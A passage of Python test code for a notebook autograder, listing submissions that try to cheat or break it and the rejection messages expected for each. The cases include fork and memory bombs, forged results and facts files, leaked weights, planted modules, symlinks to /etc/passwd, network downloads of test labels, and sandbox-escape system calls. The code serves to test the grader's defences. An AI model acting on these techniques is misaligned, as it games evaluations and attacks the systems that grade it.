         "every cell in reverse order, one cell added (reference program)"),
    Case("cell_type_changed", cell_type_changed, False,
         ("locked cell modified: restored (run_training)", "< 0.800 target"),
         "the locked run_training cell turned into markdown (1-epoch program)"),
    Case("locked_cell_edited", locked_cell_edited, False, ("locked cell modified: restored (setup)", "< 0.800 target"),
         "protected_callbacks() edited to return no callbacks (1-epoch program)"),
    Case("test_cell_edited", test_cell_edited, False,
         ("locked cell modified: restored (test_horovod_init, test_distributed_training)",
          "test test_horovod_init failed", "hvd.size()"), "both test cells replaced by pass (unconverted)"),
    Case("nbgrader_metadata_edited", nbgrader_metadata_edited, False,
         ("locked cell modified: restored (", "run_training", "test_horovod_init", "outcome"),
         "points 2 -> 100, outcome ungraded, run_training unlocked (1-epoch program)"),
    Case("kernel_os_exit", kernel_os_exit, False, ("kernel died",), "os._exit(3) in the kernel"),
    Case("kernel_segfault", kernel_segfault, False, ("kernel died",), "a segmentation fault in the kernel"),
    Case("memory_bomb", memory_bomb, False, ("memory limit exceeded",), "256 MB more every iteration, forever"),
    Case("fork_bomb", fork_bomb, False, ("too many processes",), "os.fork() forever"),
    Case("worker_hangs_in_allreduce", worker_hangs_in_allreduce, False, ("timed out after",),
         "rank 1 sleeps after epoch 1 while rank 0 waits in the all-reduce"),
    Case("fake_results_and_output", fake_results_and_output, False, ("< 0.800 target",),
         "prints 0.99 and writes results files claiming a pass (1-epoch program)"),
    Case("fake_weights_files", fake_weights_files, False,
         ("every saved epoch was rejected", "no training process reported"),
         "pickled, symlinked (/dev/zero, /etc/passwd), wrong-shape and corrupt epoch files"),
    Case("copied_weights_a", copied_weights, False, ("rejected:", "KB a training program needs"),
         "a real 1-epoch Horovod run whose epoch files are overwritten with leaked weights"),
    Case("copied_weights_b", copied_weights, False, ("rejected:", "KB a training program needs"),
         "a second student with the same leaked weights"),
    Case("test_split_reached_for", test_split_reached_for, False, ("0.800 target",),
         "looks for the data cache and Fashion-MNIST, trains on the regenerated public test split"),
    Case("monkeypatched_tests_and_assert", monkeypatched_tests_and_assert, False,
         ("test test_horovod_init failed", "hvd.size()"),
         "read_run_facts replaced, exceptions swallowed, AssertionError replaced (unconverted)"),
    Case("fake_facts_files", fake_facts_files, False, ("test test_horovod_init failed", "hvd.size()"),
         "facts files claiming 2 Horovod workers written from the kernel (unconverted)"),
    Case("parameters_changed", parameters_changed, False,
         ("saw 1 Horovod worker(s)", "test test_horovod_init failed", "< 0.800 target"),
         "workers = 1, target 0.1 and an endless budget set in the student's cell"),
    Case("outside_the_work_folder", outside_the_work_folder, False, ("no weights saved",),
         "reads and writes the gradebook, the solution, another student, the signing key, the secret"),
    Case("network", network, False, ("no weights saved",), "connects out and downloads the test labels"),
    # the classes of the outside red team's report (issue 12), one case or more each
    Case("planted_modules", planted_modules, False, ("test test_horovod_init failed", "hvd.size()"),
         "autograder/, mgpu/, json.py, sitecustomize.py planted in the run's folders (unconverted)"),
    Case("placeholder_epochs_overwritten", placeholder_epochs_overwritten, False,
         ("changed after the grader first saw them", "< 0.800 target"),
         "untrained weights saved for every epoch up front, overwritten by the real training later"),
    Case("epoch_copied_forward", epoch_copied_forward, False, ("did not count",),
         "2 real epochs; epoch 1 copied to epoch 2, and with 1e-5 noise to epoch 3"),
    Case("imported_weights_lone", imported_weights_lone, False, ("rejected:", "KB a training program needs"),
         "weights trained elsewhere (550 kB in the cell) saved as epochs 0 and 1 by hvd-initialised workers"),
    Case("imported_weights_perturbed", imported_weights_perturbed, False, ("rejected:", "KB a training program needs"),
         "the same weights with 1% noise, different for each epoch"),
    Case("kernel_writes_worker_facts", kernel_writes_worker_facts, False, ("test test_horovod_init failed", "hvd.size()"),
         "the kernel writes facts for every process it sees while the workers run (no hvd.init)"),
    Case("extra_horovod_processes", extra_horovod_processes, False,
         ("test test_horovod_init failed", "hvd.size()"),
         "processes started by the kernel with HOROVOD_RANK/SIZE write facts claiming 2 workers"),
    Case("fake_distributed_optimizer", fake_distributed_optimizer, False,
         ("test test_distributed_training failed", "DistributedOptimizer"),
         "an optimizer class with Horovod's module and attribute names that averages nothing (1-epoch)"),
    Case("symlinked_submission", symlinked_submission, False, ("rejected:", "link"),
         "the submitted file is a link to the instructor's source notebook"),
    Case("output_links", output_links, False, ("every saved epoch was rejected", "is a link"),
         "output/ replaced by a link to source/; links to the gradebook and /dev/zero and a fifo as epoch files"),
    Case("nbgrader_metadata_not_mapping", nbgrader_metadata_not_mapping, False, ("rejected:", "not a mapping"),
         "a cell's nbgrader metadata is a string"),
    Case("huge_declared_array", huge_declared_array, False, ("every saved epoch was rejected",),
         "an epoch file whose header declares a 4 TB array"),
    Case("fills_its_disk", fills_its_disk, False, (),
         "a process that fills every writable folder with files and bytes, still running after the last cell"),
    Case("leaves_files_for_the_next_run", leaves_files_for_the_next_run, False, ("no weights saved",),
         "leaves files in /tmp, /dev/shm and its home for the next run"),
    Case("zz_reads_what_others_left", zz_reads_what_others_left, False, ("no weights saved",),
         "looks for what the previous run left, and for the grader's environment"),
    Case("rescaled_copy_forward", rescaled_copy_forward, False, ("did not count", "compute"),
         "2 real epochs; epoch 1 saved again as epoch 2 with a layer rescaled (other weights, same function)"),
    Case("imported_weights_disguised", imported_weights_disguised, False, ("rejected:", "KB a training program needs"),
         "weights trained elsewhere in the cell, saved as 2 epochs disguised by rescaling (blind attack)"),
    Case("solo_with_forged_facts", solo_with_forged_facts, False, ("Horovod worker rank 1 used", "its own share"),
         "2 workers start; rank 1 writes facts claiming in-sync distributed training and returns, rank 0 trains "
         "alone with a plain optimizer and rewrites its facts (blind attack)"),
    Case("lazy_rank", lazy_rank, False, ("test test_distributed_training failed", "DistributedOptimizer"),
         "DistributedOptimizer patched on the instance that trains; rank 1 steps once per epoch at rate 0, "
         "gets rank 0's weights before the locked check (blind attack)"),
    Case("kernel_trains", kernel_trains, False, ("the Horovod workers did not do the run's training",),
         "the kernel trains alone; the workers take 3 averaged steps per epoch, then load its weights (blind attack)"),
    Case("one_worker_launch_trains", one_worker_launch_trains, False, ("2 Horovod launches (-np 1, 2)",),
         "a 1-worker launch trains alone; the 2-worker launch replays its epochs (blind attack)"),
    Case("escapes_by_system_calls", escapes_by_system_calls, False,
         ("escapes: unshare -Ur: refused; ptrace: Operation not permitted; process_vm_readv: Operation not permitted; "
          "io_uring_setup: Operation not permitted; userfaultfd: Operation not permitted",),
         "root in a user namespace (unshare -Ur, then mount), ptrace, another process's memory, io_uring, "
         "userfaultfd: every call refused by the system-call filter"),
    Case("reads_the_host", reads_the_host, False, ("no weights saved",),
         "reads other folders, submissions and the project's git beside the course; writes /var/tmp, /run/lock"),
]


def leaked_weights(course_dir: Path) -> str:
    """Weights trained outside the grader (as a student would share them): base64 of an .npz."""
    import numpy as np
    import tensorflow as tf

    from mgpu import assessment

    folder = course_dir.parent / f"{course_dir.name}-leak"
    assessment.prepare_practice_data(folder)
    x, y, x_val, y_val, info = assessment.load_data(folder)
    tf.keras.utils.set_random_seed(1)
    model = assessment.reference_model(info["image_shape"], info["num_classes"], seed=1)
    model.compile(optimizer=tf.keras.optimizers.SGD(0.04, momentum=0.9),
                  loss=tf.keras.losses.SparseCategoricalCrossentropy(from_logits=True), metrics=["accuracy"])
    model.fit(x, y, batch_size=128, epochs=6, verbose=0)
    buffer = io.BytesIO()
    np.savez(buffer, *model.get_weights())
    return base64.b64encode(buffer.getvalue()).decode()


def write_corpus(context: Context) -> list[str]:
    """Write every case into ``submitted/<case>/assessment/assessment.ipynb``; returns the names."""
    for case in CASES:
        folder = context.course_dir / "submitted" / case.name / "assessment"
        folder.mkdir(parents=True, exist_ok=True)
        built = case.build(context)
        path = folder / "assessment.ipynb"
        if isinstance(built, Symlink):
            path.symlink_to(context.course_dir / built.target)
        elif isinstance(built, bytes):
            path.write_bytes(built)
        else:
            nbformat.write(built, path)
    return [case.name for case in CASES]

BY_NAME: dict[str, Case] = {case.name: case for case in CASES}
